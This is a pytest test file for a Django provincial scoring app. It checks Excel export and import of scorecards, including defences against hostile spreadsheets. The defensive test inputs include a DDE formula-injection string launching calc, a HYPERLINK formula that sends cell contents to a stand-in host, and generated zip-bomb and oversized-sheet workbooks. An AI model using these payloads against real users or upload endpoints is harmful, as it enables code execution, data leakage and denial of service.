import re
from decimal import Decimal as D
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from scoring import services
from scoring.excel import safe_text, unescape_text
from scoring.models import Score, Scorecard

INJECTION = "=cmd|' /C calc'!A0"


@pytest.fixture
def scoring(scoring_demo):
    return scoring_demo


@pytest.fixture
def backan(client, scoring, demo_user):
    client.force_login(demo_user("backan"))
    return client


def card(year, code):
    return Scorecard.objects.select_related("emulation_year", "province").get(
        emulation_year__year=year, province__code=code
    )


def text(response):
    return re.sub(r"\s+", " ", response.content.decode())


def workbook_of(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(BytesIO(b"".join(response.streaming_content)))


def rows_by_code(sheet):
    """{criterion or section code: Excel row number} of a scorecard template."""
    return {sheet.cell(row=r, column=1).value: r for r in range(6, sheet.max_row + 1)}


def upload(workbook, name="tu-cham.xlsx"):
    buffer = BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def stored(scorecard):
    return sorted(
        Score.objects.filter(scorecard=scorecard).values_list(
            "criterion__code", "self_score", "note", "agreed_score", "agreed_reason"
        )
    )


def import_url(scorecard):
    return reverse("scoring:scorecard_import", args=[scorecard.pk])


def export(client, scorecard):
    return workbook_of(client.get(reverse("scoring:scorecard_xlsx", args=[scorecard.pk])))


# --- Scoreboard ---------------------------------------------------------------------------


def test_scoreboard_export_has_vietnamese_headers_numbers_and_prints_on_a4_landscape(backan, scoring):
    page = text(backan.get(reverse("scoring:scoreboard", args=[scoring.pk, 2014])))
    assert "Tải bảng điểm Excel" in page
    response = backan.get(reverse("scoring:scoreboard_xlsx", args=[scoring.pk, 2014]))
    assert 'filename="bang-diem-2014.xlsx"' in response["Content-Disposition"]
    sheet = workbook_of(response).active

    assert scoring.name in sheet["A1"].value and "2014" in sheet["A1"].value
    assert [c.value for c in sheet[4]] == [
        "Hạng",
        "Tỉnh",
        "A",
        "B",
        "C",
        "D",
        "Đ",
        "E",
        "Tổng tự chấm",
        "Tổng thống nhất",
        "Chênh lệch",
    ]
    first = list(sheet[6])
    thai_nguyen = card(2014, "19")
    assert first[0].value == 1 and first[1].value == "Thái Nguyên"
    for cell in first[2:]:
        assert cell.data_type == "n" and isinstance(cell.value, (int, float))
    assert D(str(first[9].value)) == thai_nguyen.agreed_total
    assert first[9].number_format == "0.00"
    assert [sheet.cell(row=r, column=1).value for r in range(6, 13)] == [1, 2, 3, 4, 5, 6, 7]

    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.page_setup.paperSize) == str(sheet.PAPERSIZE_A4)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1


# --- Scorecard export and import -------------------------------------------------------------


def test_scorecard_template_is_marked_and_shows_the_draft(backan):
    scorecard = card(2015, "06")
    page = text(backan.get(reverse("scoring:scorecard", args=[scorecard.pk])))
    assert "Tải bảng điểm Excel" in page and "Nhập từ Excel" in page

    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    assert "2015" in sheet["A1"].value and "Bắc Kạn" in sheet["A1"].value
    assert [c.value for c in sheet[5]] == [
        "Mã tiêu chí",
        "Nội dung",
        "Điểm tối đa",
        "Điểm tự chấm",
        "Ghi chú",
        "Điểm thống nhất",
        "Lý do",
        "Đơn vị",
        "Số liệu báo cáo",
    ]
    meta = workbook["meta"]
    assert meta.sheet_state == "veryHidden"
    assert dict(meta.iter_rows(max_col=2, values_only=True))["scorecard"] == scorecard.pk
    rows = rows_by_code(sheet)
    assert sheet.cell(rows["A1"], 4).value == 9 and sheet.cell(rows["A2"], 4).value == 8.5
    assert sheet.cell(rows["A2"], 4).data_type == "n"
    assert sheet.cell(rows["A4"], 2).font.b and sheet.cell(rows["A4"], 3).value == 10  # a group
    assert sheet.page_setup.orientation == "landscape"


def test_filled_template_is_imported_through_the_page(backan):
    scorecard = card(2015, "06")
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    rows = rows_by_code(sheet)
    sheet.cell(rows["A2"], 4, "7,5")
    sheet.cell(rows["A3"], 4, 8)
    sheet.cell(rows["B1"], 4, 4.5)
    sheet.cell(rows["B1"], 5, "Kế hoạch số 12/KH-UBND")
    sheet.cell(rows["E1"], 4, -1)
    sheet.cell(rows["C1"], 4, "  ")

    response = backan.post(import_url(scorecard), {"file": upload(workbook)}, follow=True)

    assert response.redirect_chain[-1][0] == reverse("scoring:scorecard", args=[scorecard.pk])
    assert "Đã nhập điểm tự chấm của" in text(response)
    scores = {s.criterion.code: s for s in Score.objects.filter(scorecard=scorecard).select_related("criterion")}
    assert scores["A1"].self_score == D("9")
    assert scores["A2"].self_score == D("7.5")
    assert scores["A3"].self_score == D("8")
    assert (scores["B1"].self_score, scores["B1"].note) == (D("4.5"), "Kế hoạch số 12/KH-UBND")
    assert scores["E1"].self_score == D("-1")
    assert "C1" not in scores or scores["C1"].self_score is None
    scorecard.refresh_from_db()
    assert scorecard.self_total == D("28")  # 9 + 7,5 + 8 + 4,5 - 1


def test_every_wrong_row_is_reported_and_nothing_is_saved(backan):
    scorecard = card(2015, "06")
    before, version = stored(scorecard), scorecard.version
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    rows = rows_by_code(sheet)
    assert rows["B3"] == 17
    sheet.cell(rows["A1"], 4, 10)  # valid, yet not saved because of the others
    sheet.cell(17, 4, 7)  # B3: maximum 5
    sheet.cell(rows["C1"], 4, "năm điểm")
    sheet.cell(rows["E2"], 4, "2")  # a deduction is negative
    sheet.cell(rows["A4"], 4, 3)  # a group takes no score
    sheet.cell(rows["D2"], 1, "Z9")

    response = backan.post(import_url(scorecard), {"file": upload(workbook)})

    page = text(response)
    assert response.status_code == 400
    assert "Không có gì được nhập" in page
    assert "Dòng 17 (B3): Điểm không được vượt quá điểm tối đa 5,00." in page
    assert f"Dòng {rows['C1']} (C1): Hãy nhập một số, ví dụ 8,5." in page
    assert f"Dòng {rows['E2']} (E2):" in page
    assert f"Dòng {rows['A4']} (A4):" in page
    assert f"Dòng {rows['D2']} (Z9):" in page
    assert stored(scorecard) == before
    scorecard.refresh_from_db()
    assert scorecard.version == version


def test_wrong_files_are_refused_with_one_clear_error(backan):
    scorecard = card(2015, "06")
    before = stored(scorecard)
    other = Workbook()
    other.active.append(["Mã tiêu chí", "Điểm tự chấm"])
    other.active.append(["A1", 10])
    another_template = export(backan, card(2014, "19"))  # Thái Nguyên's 2014 scorecard, readable by all

    cases = [
        (upload(other), "không phải là mẫu bảng điểm"),
        (SimpleUploadedFile("bang-diem.xlsx", b"%PDF-1.4 not a workbook"), "không phải là tệp Excel"),
        (upload(another_template), "thuộc về một bảng điểm khác (Thái Nguyên, 2014)"),
    ]
    for file, message in cases:
        response = backan.post(import_url(scorecard), {"file": file})
        assert response.status_code == 400
        assert message in text(response)
        assert "Dòng" not in text(response)
    assert stored(scorecard) == before


def test_formula_injection_is_neutralised_in_the_export_and_survives_a_round_trip(backan, demo_user):
    scorecard = card(2015, "06")
    a3 = Score.objects.get(scorecard=scorecard, criterion__code="A3").criterion
    services.scorecard_save_self(
        scorecard=scorecard,
        user=demo_user("backan"),
        version=scorecard.version,
        entries={a3.pk: ("9", INJECTION)},
    )
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    cell = sheet.cell(rows_by_code(sheet)["A3"], 5)
    assert cell.data_type == "s" and cell.value == "'" + INJECTION
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    response = backan.post(import_url(scorecard), {"file": upload(workbook)})
    assert response.status_code == 302
    assert Score.objects.get(scorecard=scorecard, criterion=a3).note == INJECTION


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+84", "'+84"),
        ("-5 điểm", "'-5 điểm"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'=x", "''=x"),
        ("Báo cáo đúng hạn", "Báo cáo đúng hạn"),
        ("", ""),
    ],
)
def test_safe_text_escapes_what_a_spreadsheet_would_run(value, escaped):
    assert safe_text(value) == escaped
    assert unescape_text(escaped) == value


# --- Permissions -----------------------------------------------------------------------------


def test_another_province_cannot_export_a_draft_nor_import_into_it(client, scoring, demo_user):
    draft = card(2015, "06")
    before = stored(draft)
    client.force_login(demo_user("bacgiang"))
    assert client.get(reverse("scoring:scorecard_xlsx", args=[draft.pk])).status_code == 404
    assert client.get(import_url(draft)).status_code == 404
    template = Workbook()
    response = client.post(import_url(draft), {"file": upload(template)})
    assert response.status_code == 404
    assert stored(draft) == before


def test_a_submitted_scorecard_can_be_read_but_not_imported_by_another_province(client, scoring, demo_user):
    agreed = card(2014, "19")
    client.force_login(demo_user("backan"))
    assert workbook_of(client.get(reverse("scoring:scorecard_xlsx", args=[agreed.pk]))).worksheets[0]
    assert "Nhập từ Excel" not in text(client.get(reverse("scoring:scorecard", args=[agreed.pk])))
    assert client.get(import_url(agreed)).status_code == 403


def test_the_excel_pages_require_login(client, scoring):
    draft = card(2015, "06")
    for url in [
        reverse("scoring:scoreboard_xlsx", args=[scoring.pk, 2014]),
        reverse("scoring:scorecard_xlsx", args=[draft.pk]),
        import_url(draft),
    ]:
        response = client.get(url)
        assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize(
    ("hostile", "error"),
    [
        (1e308, "Dòng 7 (A1): Số này quá lớn so với một điểm số."),
        (-1e308, "Dòng 7 (A1): Số này quá lớn so với một điểm số."),
        (123456789, "Dòng 7 (A1): Số này quá lớn so với một điểm số."),
        ("x" * 40000, "Dòng 7 (A1): Hãy nhập một số, ví dụ 8,5."),
        ('=HYPERLINK("http://x")', "Dòng 7 (A1): Hãy nhập trực tiếp số điểm, không dùng công thức."),
        ("@SUM(A1)", "Dòng 7 (A1): Hãy nhập một số, ví dụ 8,5."),
    ],
)
def test_hostile_cells_are_refused_row_by_row_and_nothing_is_imported(backan, hostile, error):
    """Huge and negative numbers, very long text, formulas: the import answers with the row's
    error, imports nothing, and the app keeps serving."""
    scorecard = card(2015, "06")
    before = stored(scorecard)
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    rows = rows_by_code(sheet)
    sheet.cell(rows["A1"], 4, hostile)
    sheet.cell(rows["A2"], 5, hostile if isinstance(hostile, str) else "ghi chú")
    response = backan.post(import_url(scorecard), {"file": upload(workbook)})
    assert response.status_code == 400
    assert error in text(response)
    assert stored(scorecard) == before


def test_a_not_a_number_cell_is_an_empty_score(backan):
    """openpyxl writes NaN as an empty cell: the import reads it as a score left blank."""
    scorecard = card(2015, "06")
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    sheet.cell(rows_by_code(sheet)["A1"], 4, float("nan"))
    assert backan.post(import_url(scorecard), {"file": upload(workbook)}).status_code == 302
    assert Score.objects.get(scorecard=scorecard, criterion__code="A1").self_score is None
    assert backan.get(reverse("scoring:scorecard", args=[scorecard.pk])).status_code == 200


def test_a_file_in_another_encoding_is_refused_clearly(backan):
    scorecard = card(2015, "06")
    before = stored(scorecard)
    csv_in_utf16 = "Mã tiêu chí;Điểm tự chấm\nA1;9\n".encode("utf-16")
    response = backan.post(import_url(scorecard), {"file": SimpleUploadedFile("diem.xlsx", csv_in_utf16)})
    assert response.status_code == 400
    assert "Excel" in text(response)
    assert stored(scorecard) == before


# --- Hostile workbooks: refused before they are read ----------------------------------------


def _rewrite_sheet(workbook, change, member="xl/worksheets/sheet1.xml"):
    """The template as bytes, with the XML of its first sheet passed through `change`."""
    import zipfile

    source, target = BytesIO(), BytesIO()
    workbook.save(source)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, change(data.decode()).encode() if info.filename == member else data)
    return SimpleUploadedFile("tu-cham.xlsx", target.getvalue())


def _many_rows(count, first=100, width=1):
    from openpyxl.utils import get_column_letter

    def cells(row):
        return "".join(f'<c r="{get_column_letter(c)}{row}" t="n"><v>1</v></c>' for c in range(1, width + 1))

    return "".join(f'<row r="{r}">{cells(r)}</row>' for r in range(first, first + count))


def _refused(backan, scorecard, file, message):
    import time

    before, version = stored(scorecard), scorecard.version
    started = time.monotonic()
    response = backan.post(import_url(scorecard), {"file": file})
    elapsed = time.monotonic() - started
    assert response.status_code == 400
    assert message in text(response)
    assert "Dòng" not in text(response)
    assert stored(scorecard) == before
    scorecard.refresh_from_db()
    assert scorecard.version == version
    return elapsed


def test_a_sheet_declaring_a_million_rows_is_refused_at_once(backan):
    """A sheet whose <dimension> claims the whole grid and which holds 100,000 rows: refused
    from its declaration, quickly, before a row is read; nothing is imported."""
    scorecard = card(2015, "06")
    bomb = _rewrite_sheet(
        export(backan, scorecard),
        lambda xml: re.sub(r'<dimension ref="[^"]+"', '<dimension ref="A1:XFD1048576"', xml).replace(
            "</sheetData>", _many_rows(100_000) + "</sheetData>"
        ),
    )
    assert bomb.size < 2 * 1024 * 1024
    elapsed = _refused(
        backan, scorecard, bomb, "Trang tính Tự chấm điểm quá lớn để nhập: tối đa 5.000 dòng, 50 cột và 100.000 ô."
    )
    assert elapsed < 5


@pytest.mark.parametrize(
    "extra",
    [
        _many_rows(6_000),  # more rows than its <dimension> says
        _many_rows(1, width=60),  # a row 60 columns wide
        '<row r="999999"><c r="A999999"><v>1</v></c></row>',  # a row far below the rest
    ],
    ids=["rows", "columns", "far-row"],
)
def test_a_sheet_holding_more_than_it_declares_is_refused(backan, extra):
    scorecard = card(2015, "06")
    file = _rewrite_sheet(export(backan, scorecard), lambda xml: xml.replace("</sheetData>", extra + "</sheetData>"))
    _refused(backan, scorecard, file, "Trang tính Tự chấm điểm quá lớn để nhập")


@pytest.mark.parametrize(
    "extra",
    ['<row r="200"><c r="[1"><v>1</v></c></row>', '<row r="200"><c r="A200" t="s"><v>99999</v></c></row>'],
    ids=["bad-reference", "missing-string"],
)
def test_a_sheet_openpyxl_cannot_read_is_refused_clearly(backan, extra):
    scorecard = card(2015, "06")
    file = _rewrite_sheet(export(backan, scorecard), lambda xml: xml.replace("</sheetData>", extra + "</sheetData>"))
    _refused(backan, scorecard, file, "Tệp này không phải là tệp Excel")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(backan):
    """A few kilobytes that unpack to 30 MB: refused from the zip's directory alone."""
    import zipfile

    scorecard = card(2015, "06")
    buffer = BytesIO()
    export(backan, scorecard).save(buffer)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * (30 * 1024 * 1024))
    bomb = SimpleUploadedFile("tu-cham.xlsx", buffer.getvalue())
    assert bomb.size < 2 * 1024 * 1024
    _refused(backan, scorecard, bomb, "Tệp Excel này khi giải nén lớn hơn 20,0")


def test_a_file_that_is_not_a_zip_is_refused(backan):
    scorecard = card(2015, "06")
    file = SimpleUploadedFile("tu-cham.xlsx", b"PK\x03\x04 but not really a zip" * 10)
    _refused(backan, scorecard, file, "Tệp này không phải là tệp Excel")


def test_a_note_longer_than_the_form_allows_is_refused_with_its_row(backan):
    scorecard = card(2015, "06")
    before = stored(scorecard)
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    rows = rows_by_code(sheet)
    sheet.cell(rows["A1"], 4, 9)
    sheet.cell(rows["A2"], 4, 8)
    sheet.cell(rows["A2"], 5, "x" * 2001)
    response = backan.post(import_url(scorecard), {"file": upload(workbook)})
    assert response.status_code == 400
    assert f"Dòng {rows['A2']} (A2): Ghi chú dài 2001 ký tự; chỉ được tối đa 2000 ký tự." in text(response)
    assert stored(scorecard) == before

    sheet.cell(rows["A2"], 5, "x" * 2000)
    assert backan.post(import_url(scorecard), {"file": upload(workbook)}).status_code == 302
    assert Score.objects.get(scorecard=scorecard, criterion__code="A2").note == "x" * 2000


HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


def test_formula_like_names_are_written_as_text_in_the_scoreboard(backan, scoring):
    """A section code or a province name that a spreadsheet would run is written as text."""
    from provinces.models import Province
    from scoring.models import Section

    Section.objects.filter(emulation_year__year=2014, code="A").update(code="=1+1")
    Section.objects.filter(emulation_year__year=2014, code="B").update(code="@SUM(A1)")
    Province.objects.filter(code="19").update(name=HYPERLINK)
    sheet = workbook_of(backan.get(reverse("scoring:scoreboard_xlsx", args=[scoring.pk, 2014]))).active

    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    headers = [c.value for c in sheet[4]]
    assert headers[2:4] == ["'=1+1", "'@SUM(A1)"]
    assert sheet["B6"].value == "'" + HYPERLINK and sheet["B6"].data_type == "s"


def test_formula_like_titles_are_written_as_text_in_the_scorecard_template(backan):
    from scoring.models import Criterion, Section

    scorecard = card(2015, "06")
    Section.objects.filter(emulation_year__year=2015, code="A").update(title=HYPERLINK)
    Criterion.objects.filter(section__emulation_year__year=2015, code="A1").update(title="+" + HYPERLINK[1:])
    sheet = export(backan, scorecard).worksheets[0]
    rows = rows_by_code(sheet)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert sheet.cell(rows["A"], 2).value == "'" + HYPERLINK
    assert sheet.cell(rows["A1"], 2).value == "'+" + HYPERLINK[1:]


def test_a_figure_is_exported_and_imported_and_the_score_computed(backan):
    from scoring.models import Criterion

    criterion = Criterion.objects.get(section__emulation_year__year=2015, code="A3")
    criterion.kind, criterion.unit, criterion.target_value, criterion.floor_value = "target", "%", D("40"), D("20")
    criterion.save()
    scorecard = card(2015, "06")
    workbook = export(backan, scorecard)
    sheet = workbook.worksheets[0]
    rows = rows_by_code(sheet)
    assert sheet.cell(rows["A3"], 8).value == "%"
    sheet.cell(rows["A3"], 9, "-4")  # refused, row by row
    sheet.cell(rows["A2"], 4, "7,5")
    response = backan.post(import_url(scorecard), {"file": upload(workbook)}, follow=True)
    assert f"Dòng {rows['A3']}" in text(response) or f"Row {rows['A3']}" in text(response)
    assert Score.objects.get(scorecard=scorecard, criterion__code="A2").self_score != D("7.5")
    sheet.cell(rows["A3"], 9, "43,5")
    backan.post(import_url(scorecard), {"file": upload(workbook)}, follow=True)
    score = Score.objects.get(scorecard=scorecard, criterion=criterion)
    assert (score.reported_value, score.self_score) == (D("43.50"), criterion.max_points)
    again = export(backan, card(2015, "06")).worksheets[0]
    assert again.cell(rows["A3"], 9).value == 43.5
